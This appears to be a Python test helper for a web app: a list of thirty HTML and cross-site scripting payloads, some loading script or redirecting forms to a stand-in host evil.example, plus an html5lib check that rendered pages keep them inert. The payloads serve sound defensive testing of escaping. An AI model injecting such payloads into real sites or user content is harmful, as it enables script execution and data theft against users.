"""Thirty pieces of HTML that somebody may put into a conversation or a name, and the check that they stay text."""

from typing import Any, Final
from xml.etree.ElementTree import Element

import html5lib

PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</select><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/p.png'>",
    "<svg onload=alert(1)>",
    "</svg><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/></object>",
    "<a href=javascript:alert(1)>x</a>",
    "</form><form action=https://evil.example/><input autofocus onfocus=alert(1)>",
    "<button formaction=https://evil.example/>x</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<details open ontoggle=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>&lt;img src=x onerror=alert(1)&gt;&#x3C;script&#x3E;",
    "\u2028\u2029<math><mtext><script>alert(1)</script></mtext></math>{{ 7 * 7 }}{% raw %}",
)
_ADDRESSES: Final = ("href", "src", "action", "formaction", "data", "poster", "xlink:href", "background", "ping")
_STRANGERS: Final = frozenset({"iframe", "object", "embed", "base", "style", "frame", "math", "img", "audio", "video"})


def parsed(text: str) -> Element:
    """The tree that a browser would build."""
    return html5lib.parse(text, namespaceHTMLElements=False)


def elements(text: str) -> list[tuple[str, dict[str, Any]]]:
    """Every element by its plain name with its attributes."""
    return [
        (str(element.tag).rpartition("}")[2], {str(key): value for key, value in element.attrib.items()})
        for element in parsed(text).iter()
        if isinstance(element.tag, str)
    ]


def assert_inert(text: str, *, scripts: int) -> None:
    """No script but ours, no event attribute, no style of its own, no address but one of this server's."""
    found = elements(text)
    assert len(found) > 10
    assert [attributes for name, attributes in found if name == "script"] == [
        {"src": "/assets/page.js", "defer": ""}
    ] * scripts
    assert not [name for name, _ in found if name in _STRANGERS]
    assert sum(name == "form" for name, _ in found) <= 1
    for name, attributes in found:
        assert not [key for key in attributes if key.lower().startswith("on") or key == "style"], name
        assert "http-equiv" not in attributes
        for key in (key for key in attributes if key.rpartition("}")[2] in _ADDRESSES):
            address = attributes[key]
            assert address.startswith(("#", "/")), (name, address)
            assert not address.startswith("//"), (name, address)
